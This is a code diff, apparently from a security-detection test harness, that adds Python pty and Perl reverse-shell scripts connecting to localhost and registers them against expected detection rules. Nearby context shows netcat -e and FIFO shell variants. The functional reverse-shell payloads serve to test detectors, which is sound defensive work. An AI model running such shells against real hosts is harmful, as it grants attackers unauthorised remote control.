@@ -198,6 +198,20 @@ def rs_fifo_nc_script(c: Ctx) -> None:
              f"{c.port} >{f}\nrm -f {f}\n")
 
 
+def rs_python_pty_script(c: Ctx) -> None:
+    # dup2 onto 0-2, then pty.spawn: the shell itself sits on a pty, not on the socket
+    c.script("rs7.py", "import os,pty,socket\n"
+             f"s=socket.create_connection(('127.0.0.1',{c.port}))\n"
+             "[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('/bin/sh')\n", PY)
+
+
+def rs_perl_script(c: Ctx) -> None:
+    c.script("rs8.pl", "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));"
+             f"connect(S,sockaddr_in({c.port},inet_aton('127.0.0.1')));"
+             "open(STDIN,'>&S');open(STDOUT,'>&S');open(STDERR,'>&S');"
+             "exec('/bin/sh','-i');\n", "/usr/bin/perl")
+
+
 def rs_busybox_nc_e(c: Ctx) -> None:
     c.run(["busybox", "nc", "127.0.0.1", str(c.port), "-e", "/bin/sh"])
 
@@ -811,6 +825,8 @@ VARIANTS: dict[str, Variant] = {
     "rs_awk_inet": _v(rs_awk_inet, "reverse_shell_command_line"),
     "rs_openssl_script": _v(rs_openssl_script, "reverse_shell_fifo", "reverse_shell_fifo_stdin"),
     "rs_fifo_nc_script": _v(rs_fifo_nc_script, "reverse_shell_fifo"),
+    "rs_python_pty_script": _v(rs_python_pty_script, "reverse_shell_socket_relay"),
+    "rs_perl_script": _v(rs_perl_script, "reverse_shell_sequence", "reverse_shell_socket_stdio"),
     "rs_renamed_shell_fd0": _v(rs_renamed_shell_fd0,
                                "reverse_shell_socket_stdio", "exec_from_tmp_shm"),
     "inj_ptrace_poke_py": _v(inj_ptrace_poke_py, "ptrace_attach", "ptrace_poke"),
